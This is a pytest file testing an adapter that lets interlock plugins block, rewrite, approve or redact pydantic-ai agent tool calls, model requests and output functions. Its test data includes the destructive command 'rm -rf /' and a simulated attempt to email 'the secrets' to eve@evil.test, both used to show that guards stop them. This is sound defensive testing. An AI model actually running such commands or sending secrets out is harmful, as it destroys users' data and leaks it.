"""The pydantic-ai adapter: a capability, run offline with pydantic-ai's FunctionModel."""

from __future__ import annotations

import asyncio
import runpy
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from pydantic import BaseModel

pytest.importorskip("pydantic_ai")

from pydantic_ai import Agent, DeferredToolRequests, TextOutput, ToolOutput, models
from pydantic_ai.exceptions import UnexpectedModelBehavior
from pydantic_ai.messages import (
    ModelMessage,
    ModelRequest,
    ModelResponse,
    SystemPromptPart,
    TextContent,
    TextPart,
    ToolCallPart,
    ToolReturnPart,
    UserPromptPart,
)
from pydantic_ai.models.function import AgentInfo, DeltaToolCall, FunctionModel

from interlock import (
    Ask,
    Block,
    HookContext,
    LLMRequest,
    LLMResponse,
    MessageEvent,
    Modify,
    PluginManager,
    Respond,
    ToolCall,
    ToolResult,
    hook,
)
from interlock.adapters.pydantic_ai import CLAIMS, InterlockCapability
from interlock.plugins.content_policy import ContentPolicy
from interlock.plugins.tool_guard import ToolGuard, ToolGuardConfig
from interlock.testing import Conformance, Expected, RecordingPlugin

from .helpers import ROOT, SERVED_GUARD, import_error_without, no_rm, sh_guard

models.ALLOW_MODEL_REQUESTS = False  # a test that reached a real model would fail


class Script:
    """A FunctionModel that calls `shell` once with `command`, then answers with what the
    tool returned; every request it received is kept in `requests`."""

    def __init__(self, command: str = "ls") -> None:
        self.command = command
        self.requests: list[list[ModelMessage]] = []
        self.model = FunctionModel(self.answer, stream_function=self.stream)

    def answer(self, messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        self.requests.append(list(messages))
        last = messages[-1]
        assert isinstance(last, ModelRequest)
        returns = [p for p in last.parts if isinstance(p, ToolReturnPart)]
        if not returns:
            call = ToolCallPart("shell", {"command": self.command}, tool_call_id="call-1")
            return ModelResponse(parts=[call])
        return ModelResponse(parts=[TextPart(f"tool said: {returns[-1].content}")])

    async def stream(self, messages: list[ModelMessage], info: AgentInfo) -> Any:
        response = self.answer(messages, info)
        for part in response.parts:
            if isinstance(part, ToolCallPart):
                yield {
                    0: DeltaToolCall(
                        part.tool_name, part.args_as_json_str(), tool_call_id=part.tool_call_id
                    )
                }
            elif isinstance(part, TextPart):
                for word in part.content.split(" "):
                    yield word + " "

    def seen(self, index: int = -1) -> list[Any]:
        """The parts of the last message of request `index`."""
        last = self.requests[index][-1]
        assert isinstance(last, ModelRequest)
        return list(last.parts)


def make_agent(
    capability: InterlockCapability, script: Script, ran: list[str] | None = None
) -> Agent[None, str]:
    agent = Agent(script.model, capabilities=[capability])

    @agent.tool_plain
    def shell(command: str) -> str:
        """Run a shell command."""
        if ran is not None:
            ran.append(command)
        return f"ran {command}"

    return agent


@pytest.fixture(autouse=True)
def close_the_loop_run_sync_made(request: pytest.FixtureRequest) -> Iterator[None]:
    """`run_sync` leaves the event loop it made open; close it after each sync test."""
    yield
    if asyncio.iscoroutinefunction(request.function):
        return
    try:
        loop = asyncio.get_event_loop_policy().get_event_loop()
    except RuntimeError:
        return
    if not loop.is_running():
        loop.close()
        asyncio.set_event_loop(None)


@pytest.fixture
def manager() -> Iterator[PluginManager]:
    manager = PluginManager()
    yield manager
    manager.close()


# -- the cases ----------------------------------------------------------------


def test_a_block_stops_the_tool_and_the_model_reads_the_reason(manager: PluginManager) -> None:
    manager.register(no_rm)
    script, ran = Script("rm -rf /"), []
    result = make_agent(InterlockCapability(manager), script, ran).run_sync("clean up")

    assert ran == []
    (returned,) = script.seen()
    assert isinstance(returned, ToolReturnPart) and returned.tool_call_id == "call-1"
    assert returned.content == (
        "tool 'shell' was blocked by plugin 'no_rm': destructive shell command"
    )
    assert returned.outcome == "failed"
    assert result.output.startswith("tool said: tool 'shell' was blocked")


def test_modified_arguments_reach_the_tool(manager: PluginManager) -> None:
    calls: list[ToolCall] = []

    @hook("pre_tool_call")
    def safer(call: ToolCall, ctx: HookContext) -> Modify[ToolCall]:
        calls.append(call)
        return Modify(call.replace(arguments={"command": "ls -la"}))

    manager.register(safer)
    script, ran = Script("ls"), []
    result = make_agent(InterlockCapability(manager), script, ran).run_sync("list")

    assert ran == ["ls -la"]
    assert calls[0].call_id == "call-1" and dict(calls[0].arguments) == {"command": "ls"}
    assert result.output == "tool said: ran ls -la"


def test_a_post_tool_call_modify_is_what_the_model_sees(manager: PluginManager) -> None:
    results: list[ToolResult] = []

    @hook("post_tool_call")
    def hide(result: ToolResult, ctx: HookContext) -> Modify[ToolResult]:
        results.append(result)
        return Modify(result.replace(output=result.output.replace("ls", "[hidden]")))

    manager.register(hide)
    script = Script("ls")
    make_agent(InterlockCapability(manager), script).run_sync("list")

    (returned,) = script.seen()
    assert isinstance(returned, ToolReturnPart) and returned.content == "ran [hidden]"
    assert results[0].call_id == "call-1" and results[0].output == "ran ls"


def test_respond_answers_without_calling_the_model(manager: PluginManager) -> None:
    @hook("pre_llm_call")
    def cached(request: LLMRequest, ctx: HookContext) -> Respond[LLMResponse]:
        return Respond(LLMResponse(request.model, "from the cache"))

    recorder = RecordingPlugin()
    manager.register(cached)
    manager.register(recorder)
    script = Script()
    result = make_agent(InterlockCapability(manager), script).run_sync("hello")

    assert script.requests == []
    assert result.output == "from the cache"
    assert recorder.names().count("post_llm_call") == 1


def test_a_post_llm_call_modify_is_what_the_agent_acts_on(manager: PluginManager) -> None:
    @hook("post_llm_call")
    def retarget(response: LLMResponse, ctx: HookContext) -> Modify[LLMResponse] | None:
        if response.tool_calls:
            (call,) = response.tool_calls
            assert call.call_id == "call-1"
            moved = call.replace(arguments={"command": "pwd"})
            return Modify(response.replace(tool_calls=(moved,)))
        return Modify(response.replace(content=response.content.upper()))

    manager.register(retarget)
    script, ran = Script("ls"), []
    result = make_agent(InterlockCapability(manager), script, ran).run_sync("where am i")

    assert ran == ["pwd"]
    assert result.output == "TOOL SAID: RAN PWD"
    assert "'command': 'ls'" not in repr(result.all_messages())


def test_a_post_llm_call_block_ends_with_the_reason(manager: PluginManager) -> None:
    manager.register(hook("post_llm_call")(lambda response, ctx: Block("off topic")))
    script, ran = Script("ls"), []
    result = make_agent(InterlockCapability(manager), script, ran).run_sync("hello")

    assert ran == []
    assert result.output == "[blocked] off topic"


def test_message_received_redacts_before_the_model_or_the_history_see_it(
    manager: PluginManager,
) -> None:
    @hook("message_received")
    def redact(event: MessageEvent, ctx: HookContext) -> Modify[MessageEvent]:
        return Modify(event.replace(content=event.content.replace("hunter2", "[password]")))

    manager.register(redact)
    script = Script()
    result = make_agent(InterlockCapability(manager), script).run_sync("my password is hunter2")

    first = script.requests[0][0]
    assert isinstance(first, ModelRequest)
    assert first.parts[0] == UserPromptPart("my password is [password]", timestamp=ANY_TIME)
    assert "hunter2" not in result.all_messages_json().decode()
    assert "hunter2" not in repr(script.requests)


def test_a_blocked_message_never_reaches_the_model(manager: PluginManager) -> None:
    @hook("message_received")
    def refuse(event: MessageEvent, ctx: HookContext) -> Block:
        return Block("not today")

    manager.register(refuse)
    script = Script()
    result = make_agent(InterlockCapability(manager), script).run_sync("forbidden words")

    assert script.requests == []
    assert result.output == "[blocked] message blocked by plugin 'refuse': not today"
    assert "forbidden words" not in result.all_messages_json().decode()


def test_a_raising_gate_fails_closed_and_the_run_goes_on(manager: PluginManager) -> None:
    @hook("pre_tool_call")
    def broken(call: ToolCall, ctx: HookContext) -> None:
        raise RuntimeError("policy store unreachable")

    manager.register(broken)
    script, ran = Script("ls"), []
    result = make_agent(InterlockCapability(manager), script, ran).run_sync("list")

    assert ran == []
    (returned,) = script.seen()
    assert isinstance(returned, ToolReturnPart) and returned.outcome == "failed"
    assert "broken" in returned.content and "RuntimeError" in returned.content
    assert result.output.startswith("tool said: tool 'shell' was blocked")


async def test_concurrent_runs_keep_their_sessions_apart(manager: PluginManager) -> None:
    both_inside = asyncio.Barrier(2)

    @hook("pre_tool_call")
    def count(call: ToolCall, ctx: HookContext) -> Modify[ToolCall]:
        seen = ctx.state["seen"] = ctx.state.get("seen", 0) + 1
        return Modify(call.replace(arguments={"command": f"{ctx.session.id}:{seen}"}))

    manager.register(count)
    capability = InterlockCapability(manager)
    ran: list[str] = []
    agent = Agent(Script().model, capabilities=[capability])

    @agent.tool_plain
    async def shell(command: str) -> str:
        await asyncio.wait_for(both_inside.wait(), 10)  # both runs are mid-run at once
        ran.append(command)
        return command

    async def run(conversation: str) -> None:
        await agent.run("go", conversation_id=conversation)
        await agent.run("again", conversation_id=conversation)

    await asyncio.gather(run("alice"), run("bob"))

    assert sorted(ran) == ["alice:1", "alice:2", "bob:1", "bob:2"]


def test_one_capability_serves_run_sync_from_two_threads(manager: PluginManager) -> None:
    both_inside = threading.Barrier(2, timeout=10)

    @hook("pre_tool_call")
    async def count(call: ToolCall, ctx: HookContext) -> Modify[ToolCall]:  # async, sync path
        seen = ctx.state["seen"] = ctx.state.get("seen", 0) + 1
        return Modify(call.replace(arguments={"command": f"{ctx.session.id}:{seen}"}))

    manager.register(count)
    agent = Agent(Script().model, capabilities=[InterlockCapability(manager)])
    ran: list[str] = []
    errors: list[BaseException] = []

    @agent.tool_plain
    def shell(command: str) -> str:
        both_inside.wait()
        ran.append(command)
        return command

    def run(conversation: str) -> None:
        try:
            agent.run_sync("go", conversation_id=conversation)
        except BaseException as error:
            errors.append(error)
            both_inside.abort()
        finally:  # run_sync made this thread a loop of its own
            asyncio.get_event_loop_policy().get_event_loop().close()

    threads = [threading.Thread(target=run, args=(name,)) for name in ("alice", "bob")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)

    assert errors == []
    assert sorted(ran) == ["alice:1", "bob:1"]


# -- conformance ------------------------------------------------------------------------


def conformance_agent() -> tuple[Conformance, Agent[None, str]]:
    kit = Conformance(CLAIMS)
    return kit, make_agent(InterlockCapability(kit.manager), Script())


def test_conformance_sync() -> None:
    kit, agent = conformance_agent()
    agent.run_sync("list the files")
    kit.check(Expected(user_messages=1, model_calls=2, tool_calls=1))
    kit.reset()
    agent.run_sync("list them again")  # a new conversation: a new session
    kit.check(Expected(user_messages=1, model_calls=2, tool_calls=1))


async def test_conformance_async() -> None:
    kit, agent = conformance_agent()
    result = await agent.run("list the files", conversation_id="c-1")
    kit.check(Expected(user_messages=1, model_calls=2, tool_calls=1))
    kit.reset()
    await agent.run("and again", message_history=result.all_messages())
    kit.check(Expected(user_messages=1, model_calls=2, tool_calls=1))
    assert "session_start" not in kit.recorder.names()  # the same conversation


async def test_conformance_streaming() -> None:
    kit, agent = conformance_agent()
    async with agent.run_stream("list the files") as stream:
        output = await stream.get_output()
    assert output.strip() == "tool said: ran ls"
    kit.check(Expected(user_messages=1, model_calls=2, tool_calls=1))


def test_message_received_fires_once_per_user_message_before_the_first_model_call() -> None:
    kit, agent = conformance_agent()
    agent.run_sync("first")
    names = kit.recorder.names()
    assert names[:3] == ["session_start", "message_received", "pre_llm_call"]
    assert names.count("message_received") == 1


# -- what else the capability does ----------------------------------------------------------


def test_ask_goes_to_the_approver(manager: PluginManager) -> None:
    @hook("pre_tool_call")
    def careful(call: ToolCall, ctx: HookContext) -> Ask:
        return Ask(f"run {call.arguments['command']}?")

    manager.register(careful)
    questions: list[str] = []

    def approver(call: ToolCall, question: str) -> bool:
        questions.append(question)
        return call.arguments["command"] == "ls"

    ran: list[str] = []
    make_agent(InterlockCapability(manager, approver=approver), Script("ls"), ran).run_sync("x")
    script = Script("rm x")
    make_agent(InterlockCapability(manager, approver=approver), script, ran).run_sync("x")

    assert ran == ["ls"]
    assert questions == ["run ls?", "run rm x?"]
    (returned,) = script.seen()
    assert isinstance(returned, ToolReturnPart)
    assert returned.content == "tool 'shell' was not approved (the approver said no): run rm x?"


def test_ask_without_an_approver_is_a_block(manager: PluginManager) -> None:
    manager.register(hook("pre_tool_call")(lambda call, ctx: Ask("sure?")))
    script, ran = Script("ls"), []
    make_agent(InterlockCapability(manager), script, ran).run_sync("x")

    assert ran == []
    (returned,) = script.seen()
    assert isinstance(returned, ToolReturnPart)
    assert returned.content == "tool 'shell' was not approved (there is no approver): sure?"


def test_ask_can_defer_to_pydantic_ai_approvals(manager: PluginManager) -> None:
    manager.register(hook("pre_tool_call")(lambda call, ctx: Ask("sure?")))
    script, ran = Script("ls"), []
    agent = Agent(
        script.model,
        capabilities=[InterlockCapability(manager, defer_asks=True)],
        output_type=[str, DeferredToolRequests],
    )
    agent.tool_plain(lambda command: ran.append(command) or "ok", name="shell")
    result = agent.run_sync("x")

    assert ran == []
    assert isinstance(result.output, DeferredToolRequests)
    (approval,) = result.output.approvals
    assert approval.tool_call_id == "call-1"
    assert result.output.metadata["call-1"] == {"question": "sure?"}


def test_system_items_reach_the_model_in_that_request(manager: PluginManager) -> None:
    @hook("pre_llm_call")
    def remind(request: LLMRequest, ctx: HookContext) -> None:
        if ctx.system_items is not None and len(request.messages) == 1:
            ctx.system_items.append("reminder", "run the tests")

    manager.register(remind, capabilities=["system_items"])
    script = Script()
    result = make_agent(InterlockCapability(manager), script).run_sync("hello")

    # The model sees it in this request, after the message (FunctionModel shows a system
    # part in mid-conversation as tagged text); the history keeps it as a system part.
    seen = [part.content for part in script.seen(0)]
    assert seen == ["hello", "<system>[reminder] run the tests</system>"]
    stored = result.all_messages()[1]
    assert isinstance(stored, ModelRequest)
    assert stored.parts == [SystemPromptPart("[reminder] run the tests", timestamp=ANY_TIME)]


def test_pre_llm_call_modify_changes_this_request_only(manager: PluginManager) -> None:
    @hook("pre_llm_call")
    def shout(request: LLMRequest, ctx: HookContext) -> Modify[LLMRequest]:
        messages = tuple(
            m.replace(content=m.content.upper()) if m.role == "user" else m
            for m in request.messages
        )
        return Modify(request.replace(messages=messages))

    manager.register(shout)
    script = Script()
    result = make_agent(InterlockCapability(manager), script).run_sync("hello")

    assert script.seen(0)[0].content == "HELLO"
    first = result.all_messages()[0]
    assert isinstance(first, ModelRequest) and first.parts[0].content == "hello"


def test_output_tools_are_not_tool_calls(manager: PluginManager) -> None:
    recorder = RecordingPlugin()
    manager.register(recorder)

    def structured(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        (tool,) = info.output_tools
        return ModelResponse(parts=[ToolCallPart(tool.name, {"answer": 42}, tool_call_id="o1")])

    agent = Agent(
        FunctionModel(structured), capabilities=[InterlockCapability(manager)], output_type=Out
    )
    result = agent.run_sync("the answer?")

    assert result.output == Out(answer=42)
    assert "pre_tool_call" not in recorder.names()


class Mailer:
    """A model that finishes through the output function `send_email`, then (once told
    why it may not) answers in text; `sent` holds what the function received."""

    def __init__(self, persist: bool = False) -> None:
        self.persist = persist
        self.sent: list[tuple[str, str]] = []
        self.retries: list[str] = []
        self.model = FunctionModel(self.answer)

    def send_email(self, to: str, body: str) -> str:
        """Send an e-mail; the status is the agent's answer."""
        self.sent.append((to, body))
        return f"sent to {to}"

    def answer(self, messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        last = messages[-1]
        assert isinstance(last, ModelRequest)
        retry = [p for p in last.parts if isinstance(p, ToolReturnPart) and p.outcome == "retried"]
        self.retries += [str(p.content) for p in retry]
        if retry and not self.persist:
            return ModelResponse(parts=[TextPart("I may not send it.")])
        args = {"to": "eve@evil.test", "body": "the secrets"}
        return ModelResponse(parts=[ToolCallPart(info.output_tools[0].name, args)])

    def agent(self, capability: InterlockCapability) -> Agent[None, str]:
        output = [ToolOutput(self.send_email, name="send_email"), str]
        return Agent(self.model, capabilities=[capability], output_type=output)


@hook("pre_tool_call")
def no_mail(call: ToolCall, ctx: HookContext) -> Block | None:
    return Block("no mail to strangers") if call.tool_name == "send_email" else None


def test_a_blocked_output_function_does_not_run_and_the_model_reads_why(
    manager: PluginManager,
) -> None:
    manager.register(no_mail)
    mailer = Mailer()
    result = mailer.agent(InterlockCapability(manager)).run_sync("mail my secrets")

    assert mailer.sent == []
    assert result.output == "I may not send it."
    (reason,) = mailer.retries
    assert "output function 'send_email' was blocked by plugin 'no_mail'" in reason
    assert "no mail to strangers" in reason


def test_an_output_function_the_model_insists_on_fails_the_run(manager: PluginManager) -> None:
    manager.register(no_mail)
    mailer = Mailer(persist=True)
    with pytest.raises(UnexpectedModelBehavior):
        mailer.agent(InterlockCapability(manager)).run_sync("mail my secrets")
    assert mailer.sent == []


def test_an_output_function_gets_the_modified_arguments(manager: PluginManager) -> None:
    recorder = RecordingPlugin()

    @hook("pre_tool_call")
    def reroute(call: ToolCall, ctx: HookContext) -> Modify[ToolCall]:
        return Modify(call.replace(arguments={**call.arguments, "to": "me@home.test"}))

    manager.register(recorder)
    manager.register(reroute)
    mailer = Mailer()
    result = mailer.agent(InterlockCapability(manager)).run_sync("mail my secrets")

    assert mailer.sent == [("me@home.test", "the secrets")]
    assert result.output == "sent to me@home.test"
    (call,) = [p for name, p in recorder.events if name == "pre_tool_call"]
    assert call.tool_name == "send_email"
    assert call.arguments == {"to": "eve@evil.test", "body": "the secrets"}


class Address(BaseModel):
    to: str


def test_output_functions_of_every_shape_are_judged(manager: PluginManager) -> None:
    """A plain function as output type (one model argument) and a `TextOutput` function."""
    got: list[Any] = []

    def deliver(address: Address) -> str:
        got.append(address)
        return "delivered"

    def shout(text: str) -> str:
        got.append(text)
        return text.upper()

    @hook("pre_tool_call")
    def rewrite(call: ToolCall, ctx: HookContext) -> Modify[ToolCall]:
        if call.tool_name == "deliver":
            return Modify(call.replace(arguments={"to": "checked@home.test"}))
        return Modify(call.replace(arguments={"input": "quiet please"}))

    def structured(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        if info.output_tools:
            args = {"to": "eve@evil.test"}
            return ModelResponse(parts=[ToolCallPart(info.output_tools[0].name, args)])
        return ModelResponse(parts=[TextPart("loud text")])

    manager.register(rewrite)
    capability = InterlockCapability(manager)
    model = FunctionModel(structured)
    first = Agent(model, capabilities=[capability], output_type=deliver).run_sync("go")
    second = Agent(model, capabilities=[capability], output_type=TextOutput(shout)).run_sync("go")

    assert got == [Address(to="checked@home.test"), "quiet please"]
    assert (first.output, second.output) == ("delivered", "QUIET PLEASE")


def test_an_output_function_modify_that_does_not_fit_is_refused(manager: PluginManager) -> None:
    @hook("pre_tool_call")
    def garble(call: ToolCall, ctx: HookContext) -> Modify[ToolCall] | None:
        return Modify(call.replace(arguments={**call.arguments, "to": {"not": "text"}}))

    manager.register(garble)
    mailer = Mailer()
    result = mailer.agent(InterlockCapability(manager)).run_sync("mail my secrets")

    assert mailer.sent == []
    assert result.output == "I may not send it."
    assert "arguments a plugin gave output function 'send_email' are invalid" in mailer.retries[0]


async def test_a_streamed_output_function_is_judged_each_time_it_runs(
    manager: PluginManager,
) -> None:
    sent: list[str] = []

    def send_email(to: str) -> str:
        sent.append(to)
        return "sent"

    async def stream(messages: list[ModelMessage], info: AgentInfo) -> Any:
        yield {0: DeltaToolCall(info.output_tools[0].name, '{"to": "eve@evil.test"}')}

    manager.register(no_mail)
    agent = Agent(
        FunctionModel(stream_function=stream),
        capabilities=[InterlockCapability(manager)],
        output_type=ToolOutput(send_email, name="send_email"),
    )

    async def stream_all() -> None:
        async with agent.run_stream("mail") as run:
            async for _ in run.stream_output(debounce_by=None):
                pass

    with pytest.raises(UnexpectedModelBehavior):
        await stream_all()
    assert sent == []


def test_arguments_made_invalid_are_refused_by_validation(manager: PluginManager) -> None:
    @hook("pre_tool_call")
    def garble(call: ToolCall, ctx: HookContext) -> Modify[ToolCall] | None:
        if "command" in call.arguments and ctx.state.setdefault("once", True):
            ctx.state["once"] = False
            return Modify(call.replace(arguments={"cmd": "ls"}))
        return None

    recorder = RecordingPlugin()
    manager.register(garble)
    manager.register(recorder)
    script, ran = Script("ls"), []
    make_agent(InterlockCapability(manager), script, ran).run_sync("list")

    assert ran == []  # validated like the model's own arguments: the model is asked again
    results = [p for name, p in recorder.events if name == "post_tool_call"]
    assert results[0].is_error and "command" in results[0].output
    names = recorder.names()
    assert names.count("pre_tool_call") == names.count("post_tool_call")


def test_a_run_without_a_conversation_id_ends_its_session(manager: PluginManager) -> None:
    recorder = RecordingPlugin()
    manager.register(recorder)
    capability = InterlockCapability(manager)
    agent = make_agent(capability, Script())
    for _ in range(3):
        agent.run_sync("hello")
    kept = agent.run_sync("remember", conversation_id="c-1")

    starts = [p.session_id for name, p in recorder.events if name == "session_start"]
    ends = [p.session_id for name, p in recorder.events if name == "session_end"]
    assert len(starts) == 4 and ends == starts[:3]
    assert list(capability.bridge._sessions) == ["c-1"]
    assert kept.conversation_id == "c-1"


async def test_a_failed_run_without_a_conversation_id_ends_its_session(
    manager: PluginManager,
) -> None:
    recorder = RecordingPlugin()
    manager.register(recorder)
    manager.register(no_mail)
    capability = InterlockCapability(manager)
    with pytest.raises(UnexpectedModelBehavior):
        await Mailer(persist=True).agent(capability).run("mail")

    assert capability.bridge._sessions == {}
    assert recorder.names()[-1] == "session_end"


def test_closing_ends_the_conversations(manager: PluginManager) -> None:
    recorder = RecordingPlugin()
    manager.register(recorder)
    capability = InterlockCapability(manager)
    agent = make_agent(capability, Script())
    agent.run_sync("one", conversation_id="c-1")
    agent.run_sync("two", conversation_id="c-1")
    agent.run_sync("three", conversation_id="c-2")
    capability.close()

    starts = [p.session_id for name, p in recorder.events if name == "session_start"]
    ends = [p.session_id for name, p in recorder.events if name == "session_end"]
    assert starts == ["c-1", "c-2"]
    assert sorted(ends) == ["c-1", "c-2"]


# -- built-in and out-of-process plugins, unchanged ------------------------------------------


def test_tool_guard_denies_destructive_commands(manager: PluginManager) -> None:
    manager.register(ToolGuard(ToolGuardConfig(destructive="deny")))
    script, ran = Script("rm -rf /"), []
    make_agent(InterlockCapability(manager), script, ran).run_sync("clean up")

    assert ran == []
    (returned,) = script.seen()
    assert isinstance(returned, ToolReturnPart) and returned.outcome == "failed"
    assert "tool-guard" in returned.content


def test_content_policy_redacts_the_user_message(manager: PluginManager) -> None:
    manager.register(ContentPolicy())
    script = Script()
    result = make_agent(InterlockCapability(manager), script).run_sync(
        "mail me at jane.doe@example.com"
    )
    assert "jane.doe@example.com" not in repr(script.requests)
    assert "jane.doe@example.com" not in result.all_messages_json().decode()


def test_content_policy_redacts_text_content_items(manager: PluginManager) -> None:
    manager.register(ContentPolicy())
    script = Script()
    prompt = ["mail me", TextContent("at ada@example.com", metadata={"source": "form"})]
    result = make_agent(InterlockCapability(manager), script).run_sync(prompt)

    assert "ada@example.com" not in repr(script.requests)
    assert "ada@example.com" not in result.all_messages_json().decode()
    first = script.requests[0][0]
    assert isinstance(first, ModelRequest) and isinstance(first.parts[0], UserPromptPart)
    assert "[email]" in repr(first.parts[0].content)


def test_a_command_hook_blocks_through_the_adapter(manager: PluginManager) -> None:
    manager.register(sh_guard())
    script, ran = Script("rm -rf /"), []
    make_agent(InterlockCapability(manager), script, ran).run_sync("clean up")

    assert ran == []
    (returned,) = script.seen()
    assert isinstance(returned, ToolReturnPart)
    assert returned.content == "tool 'shell' was blocked by plugin 'sh-guard': no deleting here"


def test_a_served_python_plugin_works_through_the_adapter(manager: PluginManager) -> None:
    from interlock.external import StdioTransport, connect

    transport = StdioTransport(
        SERVED_GUARD,
        name="guard",
    )
    try:
        manager.register(connect(transport, name="guard", hooks=["pre_tool_call"]))
        script, ran = Script("rm -rf /"), []
        make_agent(InterlockCapability(manager), script, ran).run_sync("clean up")
        assert ran == []
        (returned,) = script.seen()
        assert isinstance(returned, ToolReturnPart)
        assert (
            returned.content == "tool 'shell' was blocked by plugin 'guard': rm -rf is not allowed"
        )
    finally:
        transport.close()


# -- the example and the extra -----------------------------------------------------------------


def test_the_example_runs(capsys: pytest.CaptureFixture[str]) -> None:
    runpy.run_path(
        str(ROOT / "examples" / "adapters" / "pydantic_ai_example.py"), run_name="__main__"
    )
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "model read: clear the cache, then mail me at [email]"
    assert lines[1].startswith(
        "answer: the tool said: tool 'shell' was blocked by plugin 'tool-guard'"
    )


def test_a_missing_extra_names_the_install_command() -> None:
    output = import_error_without("pydantic_ai", "interlock.adapters.pydantic_ai")
    assert "pip install -e '<interlock checkout>[pydantic-ai]'" in output


class Out(BaseModel):
    answer: int


class _AnyTime:
    def __eq__(self, other: object) -> bool:
        return True


ANY_TIME: Any = _AnyTime()
